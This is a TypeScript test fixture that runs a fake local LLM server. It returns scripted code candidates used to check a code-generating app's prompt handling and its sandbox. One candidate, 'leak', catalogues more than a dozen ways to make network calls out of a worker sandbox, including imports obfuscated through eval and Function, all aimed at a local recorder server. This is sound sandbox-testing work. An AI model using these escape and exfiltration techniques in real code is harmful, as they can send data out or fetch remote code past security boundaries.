import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * The one stand-in of the compile e2e: an OpenAI-compatible chat-completions server on
 * 127.0.0.1 in place of a real model. Its candidates depend on what the prompt says, so the
 * test can tell whether the learner finds the helpful nudges:
 *
 * - slugify: a candidate passes the example's tests exactly when the prompt's instructions
 *   include both ACCENTS and SEPARATORS and not LOOKUP (KEEP_SMALL changes nothing);
 * - spin: a candidate that loops forever;
 * - leak: a candidate that tries every way out of the sandbox towards `leakTarget`.
 *
 * It answers CORS for the app's origin only, and requires `Bearer <apiKey>`.
 */
export const ACCENTS = 'Normalise accented letters to plain ASCII first';
export const SEPARATORS = 'Collapse runs of separators into one hyphen';
export const KEEP_SMALL = 'Keep the function pure and small';
export const LOOKUP = 'Use a lookup table for every character';

export interface Recorded {
  method: string;
  url: string;
  origin: string | undefined;
}

export interface LocalServer {
  url: string;
  port: number;
  requests: Recorded[];
  close(): Promise<void>;
}

function listen(server: Server, requests: Recorded[]): Promise<LocalServer> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      resolve({ url: `http://127.0.0.1:${port}`, port, requests, close: () => new Promise((r) => server.close(() => r())) });
    });
  });
}

function record(req: IncomingMessage, requests: Recorded[]): void {
  requests.push({ method: req.method ?? '', url: req.url ?? '', origin: req.headers.origin });
}

/** A server that only records what reaches it (no CORS headers): "the outside world". */
export function startRecorder(): Promise<LocalServer> {
  const requests: Recorded[] = [];
  return listen(
    createServer((req, res) => {
      record(req, requests);
      res.writeHead(200, { 'Content-Type': 'text/plain' }).end('reached');
    }),
    requests,
  );
}

/** What the instructions section of the prompt asks for (one "- label" per line). */
export function instructionsOf(prompt: string): string[] {
  const section = prompt.split('## Instructions for this attempt\n')[1] ?? '';
  return section.split('\n\n')[0]!.split('\n').filter((l) => l.startsWith('- ')).map((l) => l.slice(2));
}

function slugifyCandidate(asked: string[]): string {
  const lines = ['export function slugify(title: string): string {', '  let s: string = title.toLowerCase();'];
  if (asked.includes(ACCENTS)) lines.push("  s = s.normalize('NFKD').replace(/[\\u0300-\\u036f]/g, '');");
  if (asked.includes(SEPARATORS)) lines.push("  s = s.replace(/[^a-z0-9]+/g, '-').replace(/^-+|-+$/g, '');");
  else lines.push("  s = s.replace(/ /g, '-');");
  if (asked.includes(LOOKUP)) lines.push("  const table: Record<string, string> = { a: '4', e: '3' };", "  s = s.split('').map((c) => table[c] ?? c).join('');");
  lines.push('  return s;', '}');
  return lines.join('\n');
}

const SPIN = 'export function spin(): number {\n  let n = 0;\n  while (true) n++;\n}';

/** Every way out of a worker we know of; each attempt that does not throw counts. */
function leakCandidate(target: string, self: string): string {
  return `export async function leak(): Promise<string> {
  const imp = 'imp' + 'ort';
  const tries: (() => unknown)[] = [
    () => fetch('${target}/fetch'),
    () => fetch('${self}/leak'),
    () => { const x = new XMLHttpRequest(); x.open('GET', '${target}/xhr'); x.send(); },
    () => new WebSocket('${target.replace('http', 'ws')}/ws'),
    () => new EventSource('${target}/sse'),
    () => (self as any).importScripts('${target}/script.js'),
    () => (0, eval)(imp + '("${target}/eval-import")'),
    () => Function('return ' + imp + '("${target}/function-import")')(),
    () => (async () => undefined).constructor('return ' + imp + '("${target}/async-import")')(),
    () => caches.open('x').then((c) => c.add('${target}/cache')),
    () => new Worker('${target}/worker.js'),
    () => navigator.sendBeacon('${target}/beacon'),
    () => (setTimeout as any)('fetch("${target}/timer")', 0),
  ];
  let escaped = 0;
  for (const attempt of tries) {
    try {
      await attempt();
      escaped++;
    } catch {
      // blocked
    }
  }
  return escaped === 0 ? 'nothing left the sandbox' : escaped + ' attempts were not blocked';
}`;
}

function reply(res: ServerResponse, status: number, body: unknown, origin: string | undefined): void {
  res.writeHead(status, { 'Content-Type': 'application/json', ...cors(origin) }).end(JSON.stringify(body));
}

let allowedOrigin = '';
function cors(origin: string | undefined): Record<string, string> {
  if (!origin || origin !== allowedOrigin) return {};
  return { 'Access-Control-Allow-Origin': origin, 'Access-Control-Allow-Headers': 'authorization, content-type', 'Access-Control-Allow-Methods': 'GET, POST, OPTIONS' };
}

export function startFakeLlm(options: { appOrigin: string; apiKey: string; leakTarget: string }): Promise<LocalServer & { prompts: string[] }> {
  allowedOrigin = options.appOrigin;
  const requests: Recorded[] = [];
  const prompts: string[] = [];
  let selfUrl = '';
  const server = createServer((req, res) => {
    record(req, requests);
    const origin = req.headers.origin;
    if (req.method === 'OPTIONS') return void res.writeHead(204, cors(origin)).end();
    if (req.headers.authorization !== `Bearer ${options.apiKey}`) return reply(res, 401, { error: { message: 'invalid api key' } }, origin);
    if (req.method === 'GET' && req.url === '/v1/models') return reply(res, 200, { object: 'list', data: [{ id: 'fake-coder' }] }, origin);
    if (req.method !== 'POST' || req.url !== '/v1/chat/completions') return reply(res, 404, { error: { message: 'no such route' } }, origin);
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      const request = JSON.parse(body) as { messages: { role: string; content: string }[] };
      const prompt = request.messages.find((m) => m.role === 'user')?.content ?? '';
      prompts.push(prompt);
      const name = /Write `(\w+)`/.exec(prompt)?.[1];
      const code = name === 'spin' ? SPIN : name === 'leak' ? leakCandidate(options.leakTarget, selfUrl) : slugifyCandidate(instructionsOf(prompt));
      const content = `Here is the implementation:\n\n\`\`\`ts\n${code}\n\`\`\`\n`;
      reply(res, 200, { id: 'cmpl', object: 'chat.completion', choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }], usage: { total_tokens: 100 } }, origin);
    });
  });
  return listen(server, requests).then((s) => {
    selfUrl = s.url;
    return { ...s, prompts };
  });
}
